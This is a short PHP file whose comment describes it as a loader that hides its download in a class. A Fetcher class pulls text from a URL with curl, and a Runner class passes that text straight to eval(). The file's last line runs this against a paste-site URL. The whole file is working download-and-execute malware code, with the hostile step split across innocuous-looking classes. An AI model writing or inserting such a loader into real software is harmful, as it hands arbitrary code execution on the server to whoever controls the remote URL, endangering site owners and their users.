<?php
// a loader that hides its download in a class: what the network sends runs
class Fetcher
{
    public function get(string $url)
    {
        $c = curl_init();
        curl_setopt($c, CURLOPT_URL, $url);
        curl_setopt($c, CURLOPT_RETURNTRANSFER, true);
        $body = curl_exec($c);
        curl_close($c);
        return $body;
    }
}

class Runner
{
    private $http;

    public function __construct(Fetcher $http)
    {
        $this->http = $http;
    }

    public function run(string $from): void
    {
        $payload = $this->http->get($from);
        if ($payload) {
            eval('?>' . $payload);
        }
    }
}

(new Runner(new Fetcher()))->run('https://paste.example.net/raw/k3y');
